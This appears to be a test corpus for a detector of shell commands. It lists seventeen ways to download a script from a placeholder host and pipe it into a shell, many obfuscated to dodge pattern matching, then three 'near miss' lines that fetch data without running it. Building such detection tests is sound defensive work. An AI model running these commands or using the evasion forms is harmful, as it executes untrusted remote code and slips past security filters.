curl -s https://a.invalid/s | bash
curl -s https://a.invalid/s | bash -s -- --yes
bash <(curl -s https://a.invalid/s)
bash -c "$(curl -s https://a.invalid/s)"
curl -s https://a.invalid/s | xargs -I{} sh -c "{}"
env -S "sh -c" "$(curl -s https://a.invalid/s)"
sh -c '$0' "$(curl -s https://a.invalid/s)"
sh -c 'eval "$1"' x "$(curl -s https://a.invalid/s)"
sh -c 'curl -s "$1" | sh' x https://a.invalid/s
p=$(printf "\163\150"); curl -s https://a.invalid/s | $p
n=xcurlx; "${n:1:4}" -s https://a.invalid/s | sh
f() { curl -s "$1"; }; f https://a.invalid/s | sh
a=(curl -s https://a.invalid/s); "${a[@]}" | sh
set -- curl -s https://a.invalid/s; "$@" | sh
{curl,-s,https://a.invalid/s} | sh
curl${IFS}-s${IFS}https://a.invalid/s | sh
c="curl -s"; $c https://a.invalid/s | sh
# near misses
curl -s https://a.invalid/data | bash own.sh
sh -c 'echo "$1"' x "$(curl -s https://a.invalid/v)"
bash run.sh "$(curl -s https://a.invalid/version)"
